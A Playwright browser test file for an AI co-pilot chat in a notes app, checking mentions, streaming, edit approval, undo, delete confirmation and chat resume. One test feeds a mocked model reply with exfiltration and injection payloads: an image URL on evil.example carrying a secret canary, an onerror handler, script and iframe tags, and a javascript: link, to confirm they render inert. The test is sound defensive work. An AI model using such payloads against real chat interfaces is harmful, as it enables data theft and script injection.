/**
 * The chat view in Debian's Chromium: the real view and engine over the example vault, the real SDK against the
 * local Messages-API server. Covers docs/RELIABILITY.md rows 3, 4, 5, 6, 17 and 22 where they concern the chat, and
 * writes the README screenshots (to `test-results/browser/`; `npm run screenshots` writes them to `docs/images/`).
 */
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startMessagesApiServer, textTurn, toolUseTurn, type MessagesApiServer } from '../support/messages-api-server';
import { launchBrowser, openHarnessPage, type HarnessBrowser } from './harness/browser';
import { screenshotFolder } from './harness/screenshots';
import { startHarness, type HarnessServer } from './harness/server';

const NOTE = 'Research/Forgetting curve.md';
const IMAGES = screenshotFolder();

let api: MessagesApiServer;
let harness: HarnessServer;
let browser: HarnessBrowser;

beforeAll(async () => {
    api = await startMessagesApiServer({ eventDelayMs: 4 });
    harness = await startHarness({ modelBaseURL: api.baseURL, apiKey: api.apiKey });
    browser = await launchBrowser();
    await mkdir(IMAGES, { recursive: true });
});

afterAll(async () => {
    await browser?.close();
    await harness?.close();
    await api?.close();
});

beforeEach(() => {
    api.setDefault(undefined);
});

async function send(page: Page, text: string): Promise<void> {
    const input = page.locator('.vault-agent-textarea');
    await input.fill(text);
    await input.press('Enter');
}

async function idle(page: Page): Promise<void> {
    await page.locator('.vault-agent-send:not(.is-stop)').waitFor();
    await page.waitForFunction(() => !document.querySelector('.vault-agent-chat')?.classList.contains('is-busy'));
}

async function vaultText(page: Page, path: string): Promise<string | undefined> {
    return page.evaluate(
        (p) =>
            (
                window as unknown as { harness: { vault: { snapshot(): Record<string, string> } } }
            ).harness.vault.snapshot()[p],
        path,
    );
}

describe('the co-pilot chat in a browser', () => {
    it('suggests notes after @, never an excluded one, and sends the mentioned note with the message', async () => {
        const { page } = await openHarnessPage(browser, harness.url);
        const input = page.locator('.vault-agent-textarea');
        await input.pressSequentially('What does @Therap');
        expect(await page.locator('.vault-agent-popover-item').allInnerTexts()).not.toContainEqual(
            expect.stringContaining('Therapy'),
        );
        await input.fill('');
        await input.pressSequentially('Summarise @Forgetting');
        await page.locator('.vault-agent-popover-item', { hasText: 'Forgetting curve' }).first().waitFor();
        await input.press('Enter');
        await expect.poll(() => input.inputValue()).toBe('Summarise @[[Forgetting curve]] ');
        await page.locator('.vault-agent-chip-mention', { hasText: 'Forgetting curve' }).waitFor();

        const before = api.messageRequests().length;
        api.enqueue(
            toolUseTurn([{ name: 'search_notes', input: { query: 'spacing' } }], {
                preface: 'Let me check what else the vault says about spacing.',
            }),
            textTurn(
                'The note says retention **drops steeply** within the first day, then levels off:\n\n' +
                    '- each re-learning flattens the curve;\n- meaningful material decays more slowly;\n' +
                    '- overlearning slows the decay.\n\nThe practical answer is in [[Spaced repetition]].',
            ),
        );
        await input.press('Enter');
        await page.locator('.vault-agent-assistant strong', { hasText: 'drops steeply' }).waitFor();
        await idle(page);
        await page.screenshot({ path: join(IMAGES, 'chat.png') });
        const sent = JSON.stringify(api.messageRequests()[before]?.body);
        expect(sent).toContain('Ebbinghaus measured how fast he forgot');
        expect(sent).not.toContain('Sessions every other Tuesday');
        await page.locator('.vault-agent-assistant a.internal-link', { hasText: 'Spaced repetition' }).click();
        expect(
            await page.evaluate(() => (window as unknown as { harness: { opened: string[] } }).harness.opened),
        ).toContain('Research/Spaced repetition.md');
    });

    it('streams a long answer: text appears before the answer is complete, and every block renders once', async () => {
        const { page } = await openHarnessPage(browser, harness.url);
        const paragraphs = Array.from({ length: 60 }, (_, i) => `Paragraph ${i + 1} of the answer, with some words.`);
        api.enqueue(textTurn(paragraphs.join('\n\n')));
        await send(page, 'Write a long answer');
        await page.locator('.vault-agent-md-block', { hasText: 'Paragraph 2 ' }).first().waitFor();
        const midway = await page.locator('.vault-agent-md-block').count();
        await idle(page);
        await expect.poll(() => page.locator('.vault-agent-assistant .vault-agent-md-block').count()).toBe(60);
        expect(midway).toBeLessThan(60);
    });

    it('applies one accepted hunk, leaves the rejected one, then undoes the turn byte for byte (rows 3, 5)', async () => {
        const { page } = await openHarnessPage(browser, harness.url);
        const original = await vaultText(page, NOTE);
        api.enqueue(
            toolUseTurn([{ name: 'read_note', input: { path: NOTE } }], { preface: 'Let me read the note.' }),
            toolUseTurn([
                {
                    name: 'edit_note',
                    input: {
                        path: NOTE,
                        edits: [
                            { old: 'Ebbinghaus measured how fast', new: 'Hermann Ebbinghaus measured how quickly' },
                            { old: 'The practical answer to the curve', new: 'The best answer to the curve' },
                        ],
                    },
                },
            ]),
            textTurn('I tightened two sentences.'),
        );
        await send(page, `Tighten @[[Forgetting curve]]`);
        const card = page.locator('.vault-agent-approval');
        await card.waitFor();
        expect(await card.locator('.vault-agent-hunk').count()).toBe(2);
        expect(await card.locator('ins').first().innerText()).toContain('Hermann');
        await card.screenshot({ path: join(IMAGES, 'approval-card.png') });
        // Prose in the chat never approves: the card still waits for a click (row 3).
        expect(await vaultText(page, NOTE)).toBe(original);
        await card.locator('.vault-agent-hunk[data-hunk="0"] .vault-agent-hunk-accept').click();
        await card.locator('.vault-agent-hunk[data-hunk="1"] .vault-agent-hunk-reject').click();
        await card.locator('.vault-agent-apply-chosen').click();
        await idle(page);
        const edited = await vaultText(page, NOTE);
        expect(edited).toContain('Hermann Ebbinghaus measured how quickly');
        expect(edited).toContain('The practical answer to the curve');

        await page.locator('.vault-agent-undo-turn').click();
        await page.locator('.vault-agent-undo-plan', { hasText: 'Will restore' }).waitFor();
        await page.locator('.vault-agent-confirm-undo').click();
        await page.locator('.vault-agent-undo-result').waitFor();
        expect(await vaultText(page, NOTE)).toBe(original);
    });

    it('asks before a delete even in auto-accept mode, and the note goes to the trash (row 4)', async () => {
        const { page } = await openHarnessPage(browser, harness.url);
        await page.locator('.vault-agent-mode').selectOption('auto-edits');
        const target = 'Meetings/2026-11-19 Team sync.md';
        api.enqueue(toolUseTurn([{ name: 'delete_note', input: { path: target } }]), textTurn('Deleted.'));
        await send(page, 'Delete the team sync note');
        const card = page.locator('.vault-agent-approval-delete');
        await card.waitFor();
        expect(await card.innerText()).toContain('to the trash');
        expect(await vaultText(page, target)).toBeDefined();
        await card.locator('.vault-agent-accept-all').click();
        await idle(page);
        expect(await vaultText(page, target)).toBeUndefined();
        const trashed = await page.evaluate(
            (p) =>
                (
                    window as unknown as { harness: { vault: { trashed: Map<string, string> } } }
                ).harness.vault.trashed.has(p),
            target,
        );
        expect(trashed).toBe(true);
    });

    it('edits the open note through its editor without losing what the person typed meanwhile (row 6)', async () => {
        const { page } = await openHarnessPage(browser, harness.url);
        const path = 'Projects/Vault Agent launch.md';
        const onDisk = await vaultText(page, path);
        await page.evaluate(
            (p) => (window as unknown as { harness: { openNote(p: string): void } }).harness.openNote(p),
            path,
        );
        api.enqueue(
            toolUseTurn([{ name: 'read_note', input: { path } }]),
            toolUseTurn([{ name: 'edit_note', input: { path, edits: [{ old: '## Goal', new: '## Goal for v1' }] } }]),
            textTurn('Renamed the heading.'),
        );
        await send(page, 'Rename the goal heading');
        const card = page.locator('.vault-agent-approval');
        await card.waitFor();
        await page.evaluate(() =>
            (window as unknown as { harness: { typeAtEnd(t: string): void } }).harness.typeAtEnd(
                '\nTyped while waiting.',
            ),
        );
        await card.locator('.vault-agent-accept-all').click();
        await idle(page);
        const editor = await page.evaluate(() =>
            (window as unknown as { harness: { editorText(): string } }).harness.editorText(),
        );
        expect(editor).toContain('## Goal for v1');
        expect(editor.endsWith('\nTyped while waiting.')).toBe(true);
        expect(await vaultText(page, path)).toBe(onDisk);
    });

    it('stops mid-stream within a second and keeps the partial answer', async () => {
        const { page } = await openHarnessPage(browser, harness.url);
        const words = Array.from({ length: 4000 }, (_, i) => `word${i}`).join(' ');
        api.enqueue(textTurn(words));
        await send(page, 'Go on and on');
        await page.locator('.vault-agent-assistant', { hasText: 'word1' }).waitFor();
        const pressed = Date.now();
        await page.locator('.vault-agent-send.is-stop').click();
        await idle(page);
        expect(Date.now() - pressed).toBeLessThan(1000);
        await page.locator('.vault-agent-outcome.is-stopped').waitFor();
        expect(await page.locator('.vault-agent-assistant').last().innerText()).toContain('word1');
    });

    it('never fetches remote images and renders script, onerror and javascript: links inert (rows 17, 22)', async () => {
        const { page, requests } = await openHarnessPage(browser, harness.url);
        api.enqueue(
            textTurn(
                [
                    'Here: ![chart](https://evil.example/p.png?d=secret-canary)',
                    '',
                    '<img src="https://evil.example/i.png" onerror="window.__pwned = 1">',
                    '',
                    '<script>window.__pwned = 2</script> and <iframe src="https://evil.example/frame"></iframe>',
                    '',
                    '[click me](javascript:window.__pwned=3) and ![[Therapy]]',
                ].join('\n'),
            ),
        );
        await send(page, 'Show me a chart');
        await page.locator('.vault-agent-assistant', { hasText: 'click me' }).waitFor();
        await idle(page);
        await page.waitForTimeout(300);
        const answer = page.locator('.vault-agent-assistant').last();
        expect(await answer.innerText()).toContain('Image from evil.example: chart');
        expect(await answer.locator('img, script, iframe').count()).toBe(0);
        expect(await answer.locator('a[href^="javascript"]').count()).toBe(0);
        expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
        expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
    });

    it('resumes a chat after a restart with its history', async () => {
        const first = await openHarnessPage(browser, harness.url);
        api.enqueue(textTurn('The launch goal is a first public version.'));
        await send(first.page, 'What is the launch goal? (resume test)');
        await idle(first.page);
        await first.page.close();

        const { page } = await openHarnessPage(browser, harness.url);
        await page.locator('.vault-agent-history-button').click();
        await page.locator('.vault-agent-history-item', { hasText: 'resume test' }).click();
        await page.locator('.vault-agent-assistant', { hasText: 'first public version' }).waitFor();
        const before = api.messageRequests().length;
        api.enqueue(textTurn('Yes, it is.'));
        await send(page, 'Is that still true?');
        await idle(page);
        const sent = JSON.stringify(api.messageRequests()[before]?.body);
        expect(sent).toContain('The launch goal is a first public version.');
        expect(sent).toContain('Is that still true?');
    });
    it('runs a custom command from the vault: lists it after /, sends its expanded prompt, shows what guided the answer', async () => {
        const { page } = await openHarnessPage(browser, harness.url);
        const input = page.locator('.vault-agent-textarea');
        await input.click();
        await input.pressSequentially('/week');
        const item = page.locator('.vault-agent-popover-item', { hasText: '/weekly-digest' });
        await item.waitFor();
        expect(await item.innerText()).toContain('customer meetings');
        await input.press('Enter');
        await expect.poll(() => input.inputValue()).toBe('/weekly-digest ');

        const before = api.messageRequests().length;
        api.enqueue(textTurn('This week: pricing came up with two customers.'));
        await input.pressSequentially('pricing');
        await input.press('Enter');
        await idle(page);
        const sent = api.messageRequests()[before];
        expect(sent?.rawBody).toContain('Write a weekly digest of the customer meetings');
        expect(sent?.rawBody).toContain('Pay particular attention to: pricing');
        expect(sent?.rawBody).not.toContain('$ARGUMENTS');
        expect(await page.locator('.vault-agent-user-text').last().innerText()).toBe('/weekly-digest pricing');
        expect(await page.locator('.vault-agent-guidance').last().innerText()).toContain('Instructions: AGENTS.md');

        await send(page, '/no-such-command');
        await page.locator('.vault-agent-note', { hasText: 'no command called' }).waitFor();
        expect(api.messageRequests()).toHaveLength(before + 1);
    });
    it('marks where /compact summarised earlier messages, and a resumed chat still shows the divider', async () => {
        const first = await openHarnessPage(browser, harness.url);
        const long = 'The plan has many parts worth discussing at length. '.repeat(60);
        for (const question of ['Tell me about the plan (compact test)', 'More', 'Even more']) {
            api.enqueue(textTurn(long));
            await send(first.page, question);
            await idle(first.page);
        }
        api.enqueue(textTurn('Summary: the person is reading about the plan.'));
        await send(first.page, '/compact');
        const divider = first.page.locator('.vault-agent-compacted');
        await divider.waitFor();
        expect(await divider.innerText()).toMatch(/^Earlier messages summarised — \d+ messages?, 0 changes kept$/);
        await first.page.locator('.vault-agent-note', { hasText: 'Compacted:' }).waitFor();
        await first.page.close();

        const { page } = await openHarnessPage(browser, harness.url);
        await page.locator('.vault-agent-history-button').click();
        await page.locator('.vault-agent-history-item', { hasText: 'compact test' }).click();
        await page.locator('.vault-agent-compacted').waitFor();
    });
});
